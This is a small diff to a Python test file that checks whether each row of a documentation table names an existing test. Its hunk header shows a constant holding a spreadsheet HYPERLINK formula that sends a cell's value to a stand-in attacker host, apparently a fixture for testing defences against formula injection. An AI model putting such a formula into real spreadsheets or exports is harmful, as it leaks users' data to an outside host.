@@ -17,7 +17,7 @@ FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'
 
 
 def test_every_promise_names_tests_that_exist() -> None:
-    rows = [row for row in PAGE.splitlines() if row.startswith("| ") and not row.startswith("| promise")]
+    rows = [row for row in PAGE.splitlines() if row.startswith("| ") and not row.startswith(("| promise", "| path"))]
     assert len(rows) > 20
     assert [row for row in rows if "::test_" not in row] == []
     for file, test in re.findall(r"`(tests/\w+\.py)::(\w+)`", PAGE):
